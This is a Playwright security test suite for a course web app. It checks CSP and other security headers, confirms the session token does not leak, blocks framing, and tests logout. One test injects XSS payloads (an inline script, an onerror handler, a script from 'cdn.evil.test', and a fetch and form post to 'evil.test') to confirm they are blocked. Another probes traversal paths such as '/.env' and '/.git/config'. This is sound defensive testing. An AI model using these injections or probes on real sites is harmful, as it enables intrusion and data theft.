import type { Page } from '@playwright/test';
import { appUrl, sandboxUrl } from './address.ts';
import { expect, test } from './person.ts';

const VISITORS = [
  '/auth/login',
  '/auth/reset/nao-existe',
  '/checkout/cfp-completo/530',
  '/checkout-modular/cfp-modular/540',
  '/gabaritoro/create',
  '/descadastrar/qualquer',
];
const STUDENTS = [
  '/',
  '/courses/101/530',
  '/courses/103/570',
  '/questions',
  '/qr/CFP-M1-01',
  '/podcast',
  '/cashback',
  '/notifications',
  '/user',
  '/user/pass',
];

/** Writes down what the browser refuses for the policy's sake, on every page that is opened. */
async function recordPolicyViolations(page: Page): Promise<string[]> {
  const broken: string[] = [];
  await page.exposeFunction('policyBroken', (what: string) => broken.push(what));
  await page.addInitScript(() => {
    addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) => {
      const { policyBroken } = window as unknown as { policyBroken: (what: string) => void };
      policyBroken(`${effectiveDirective} ${blockedURI}`);
    });
  });
  return broken;
}

/** Every address that the browser asks for. */
function recordRequestedUrls(page: Page): URL[] {
  const asked: URL[] = [];
  page.on('request', (request) => {
    if (/^https?:/.test(request.url())) asked.push(new URL(request.url()));
  });
  return asked;
}

async function visitAll(page: Page, addresses: readonly string[]): Promise<void> {
  for (const address of addresses) {
    const answer = await page.goto(address);
    await expect(page.getByRole('heading', { level: 1 }).first()).toBeVisible();
    const headers = answer?.headers() ?? {};
    expect(headers).toMatchObject({
      'x-content-type-options': 'nosniff',
      'x-frame-options': 'DENY',
      'referrer-policy': 'strict-origin-when-cross-origin',
      'cross-origin-opener-policy': 'same-origin',
      'permissions-policy': expect.stringContaining('camera=()'),
    });
    expect(headers['content-security-policy']).toMatch(
      /script-src 'self' 'sha256-[\w+/]{43}=';.*frame-ancestors 'none'/,
    );
    expect(headers['content-security-policy']).not.toMatch(/unsafe-|\*/);
    expect(headers.server ?? headers['x-powered-by']).toBeUndefined();
    // Here nothing is encrypted, so nothing may be promised; production has its own test.
    expect(headers['strict-transport-security']).toBeUndefined();
  }
}

test('public pages keep to their policy, ask nobody else and set no cookie', async ({ page, context }) => {
  const broken = await recordPolicyViolations(page);
  const asked = recordRequestedUrls(page);
  await visitAll(page, VISITORS);
  expect(broken).toEqual([]);
  expect(await context.cookies()).toEqual([]);
  // The support chat is a page of its provider, and only the unsubscribe page frames it.
  const strangers = asked.filter(({ origin }) => origin !== appUrl);
  expect(strangers.filter(({ origin }) => origin !== sandboxUrl).map(String)).toEqual([]);
});

test('a student’s pages do the same, and no address holds the session', async ({ page, person, context }) => {
  const broken = await recordPolicyViolations(page);
  const asked = recordRequestedUrls(page);
  await person.login('veterana@toro.test');
  await visitAll(page, STUDENTS);
  expect(broken).toEqual([]);
  expect(await context.cookies()).toEqual([]);
  expect(asked.filter(({ origin }) => origin !== appUrl).map(String)).toEqual([]);
  const token = await page.evaluate(
    () => JSON.parse(sessionStorage.getItem('toro.session') ?? '{}').state.token as string,
  );
  expect(token).toMatch(/^[\w-]{43}$/);
  expect(asked.map(String).filter((address) => address.includes(token))).toEqual([]);
  expect(await page.evaluate(() => JSON.stringify(localStorage))).not.toContain(token);
});

test('what is smuggled into a page does not run', async ({ page }) => {
  const broken = await recordPolicyViolations(page);
  await page.goto('/auth/login');
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
  const ran = await page.evaluate(async () => {
    const script = document.createElement('script');
    script.textContent = 'window.ran = "inline script"';
    document.body.append(script);
    document.body.insertAdjacentHTML('beforeend', '<img src="/nada.png" onerror="window.ran = \'handler\'">');
    const foreign = document.createElement('script');
    foreign.src = 'https://cdn.evil.test/x.js';
    document.body.append(foreign);
    const link = document.createElement('a');
    link.href = 'javascript:window.ran = "link"';
    document.body.append(link);
    link.click();
    const form = document.createElement('form');
    form.action = 'https://evil.test/';
    document.body.append(form);
    form.requestSubmit();
    setTimeout('window.ran = "text as code"', 0);
    await fetch('https://evil.test/').catch(() => undefined);
    await new Promise((resolve) => setTimeout(resolve, 300));
    return (window as unknown as { ran?: string }).ran;
  });
  expect(ran).toBeUndefined();
  await expect
    .poll(() => new Set(broken.map((what) => what.split(' ')[0])))
    .toEqual(new Set(['script-src-elem', 'script-src-attr', 'script-src', 'form-action', 'connect-src']));
});

test('nobody can put the app into a frame', async ({ page }) => {
  await page.route('http://evil.localhost/**', (route) =>
    route.fulfill({ contentType: 'text/html', body: `<iframe src="${appUrl}/auth/login"></iframe>` }),
  );
  await page.goto('http://evil.localhost/');
  await expect.poll(() => page.frames().at(-1)?.url()).toBe('chrome-error://chromewebdata/');
  await expect(page.frameLocator('iframe').getByLabel('E-mail')).toHaveCount(0);
});

test('no folder is listed, and nothing beside the app is served', async ({ page }) => {
  for (const address of [
    '/files/',
    '/files/..%2f..%2fpackage.json',
    '/assets/',
    '/assets/..%2f..%2fpackage.json',
    '/.env',
    '/.git/config',
    '/package.json',
    '/releases.json',
    '/metrics',
  ])
    expect({ address, status: (await page.request.get(address)).status() }).toEqual({ address, status: 404 });
});

test('after a logout the token is dead and the device has forgotten it', async ({ page, person }) => {
  await person.login('veterana@toro.test');
  const kept = () => page.evaluate(() => JSON.stringify([sessionStorage, localStorage]));
  const token = /"token\\*":\\*"([\w-]{43})/.exec(await kept())?.[1] ?? '';
  await page.getByRole('button', { name: 'Sair' }).first().click();
  await expect(page).toHaveURL(/\/auth\/login/);
  expect(await kept()).not.toContain(token);
  const answer = await page.request.get('/v1/check-token-expiration', {
    headers: { authorization: `Bearer ${token}` },
  });
  expect(answer.status()).toBe(401);
  await page.goBack();
  await expect(person.menu).toHaveCount(0);
  await page.goto('/user');
  await expect(page).toHaveURL(/\/auth\/login/);
});
